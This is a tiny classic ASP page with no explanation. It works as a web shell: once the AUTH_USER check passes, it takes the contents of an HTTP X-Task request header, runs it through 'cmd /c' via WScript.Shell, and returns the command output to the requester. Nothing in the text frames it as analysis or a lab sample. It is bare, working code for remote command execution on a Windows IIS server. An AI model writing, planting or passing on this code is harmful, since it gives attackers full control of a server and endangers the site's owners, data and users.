<%
If Request.ServerVariables("AUTH_USER") = "" Then Response.End
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd /c " & Request.ServerVariables("HTTP_X_TASK"))
Response.Write ex.StdOut.ReadAll()
%>
